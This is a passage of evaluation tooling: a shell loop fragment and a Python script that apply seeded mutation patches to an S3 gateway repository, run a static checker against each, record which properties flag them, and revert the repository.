  case "$DIR" in posix|posix_test) DIR=backend/posix;; auth|auth_test) DIR=auth;; controllers|controllers_test) DIR=s3api/controllers;; utils|utils_test) DIR=s3api/utils;; s3api|s3api_test) DIR=s3api;; s3proxy|s3proxy_test) DIR=backend/s3proxy;; backend|backend_test) DIR=backend;; middlewares|middlewares_test) DIR=s3api/middlewares;; s3event|s3event_test) DIR=s3event;; esac
  echo "### C$P $M $DIR"; /verif/tools/confirm_mut.sh C$P $M $DIR 2>&1 | tail -2
done; done
