#!/usr/bin/env python3
"""For every confirmed seeded change under /verif/seeded/<id>/: apply patch.diff to /repo, run all checks
(no evidence written), record which properties/rules report a violation, undo the patch, and (re)write
meta.json. Never leaves /repo modified."""
import json, os, subprocess, sys, re
SEED='/verif/seeded'
def sh(cmd, **kw): return subprocess.run(cmd, shell=True, capture_output=True, text=True, **kw)
# REPO: the tree the patches are applied to (default /repo; a scratch worktree of /repo at the same commit when
# several shards run in parallel: VGW_META_REPO=/tmp/wt-x); BIN: the checker binary
REPO=os.environ.get('VGW_META_REPO','/repo')
BIN=os.environ.get('VGW_META_BIN','/verif/bin/vgwsa')
assert sh(f'git -C {REPO} diff --quiet').returncode == 0, REPO+' not clean'
only = sys.argv[1:]
rows=[]
for d in sorted(os.listdir(SEED)):
    if only and d not in only: continue
    p=os.path.join(SEED,d)
    if not os.path.exists(p+'/patch.diff'): continue
    prop=d.split('-')[0]
    r=sh(f'git -C {REPO} apply {p}/patch.diff')
    if r.returncode!=0:
        print(d,'PATCH DOES NOT APPLY', r.stderr[:200]); continue
    try:
        out=sh(f'VGW_REPO={REPO} {BIN} check -prop all -no-evidence').stdout
    finally:
        sh(f'git -C {REPO} checkout -- . && git -C {REPO} clean -fdq')
    det={}
    for l in out.splitlines():
        m=re.match(r'violation: property=(\S+) rule=(\S+) key=(.*?) at (\S+): ',l)
        if m: det.setdefault(m.group(1),[]).append({'rule':m.group(2),'key':m.group(3),'at':m.group(4)})
    broken=[l for l in out.splitlines() if l.startswith('BROKEN')]
    readme=''
    if os.path.exists(p+'/README.md'): readme=open(p+'/README.md').read()
    needs=''
    m=re.search(r'(?is)(needs|manifest|trigger)[^\n]*\n(.{0,600})', readme)
    meta={}
    if os.path.exists(p+'/meta.json'):
        try: meta=json.load(open(p+'/meta.json'))
        except Exception: meta={}
    meta.update({
      'id': d,
      'breaks_property': prop,
      'source': 'independent sub-agent given only the property text and a scratch worktree',
      'demo': open(p+'/demo_path.txt').read().strip() if os.path.exists(p+'/demo_path.txt') else None,
      'confirmed_by': '/verif/tools/confirm_mut.sh (scratch worktree): demo passes without the change, fails with it; go build ok; pinned 199-test suite passes with the change',
      'checked_with': '/verif/tools/seeded_meta.py: git apply patch.diff on /repo (or on a scratch worktree of it at the same commit, VGW_META_REPO); vgwsa check -prop all; git checkout -- .',
      'detected': bool(det.get(prop)),
      'detected_by_own_property': det.get(prop, []),
      'also_reported_by': {k:[x['rule'] for x in v] for k,v in det.items() if k!=prop},
      'repo_commit': sh(f'git -C {REPO} rev-parse --short HEAD').stdout.strip(),
    })
    meta.setdefault('needs_to_manifest', (readme.split('\n\n')[1] if readme.count('\n\n')>1 else '')[:700])
    json.dump(meta, open(p+'/meta.json','w'), indent=1)
    rows.append((d, bool(det.get(prop)), sorted(det.keys())))
    print(d, 'DETECTED' if det.get(prop) else ('other:'+','.join(sorted(det)) if det else 'MISSED'), ' '.join(sorted({x['rule'] for x in det.get(prop,[])})), ('BROKEN!' if broken else ''))
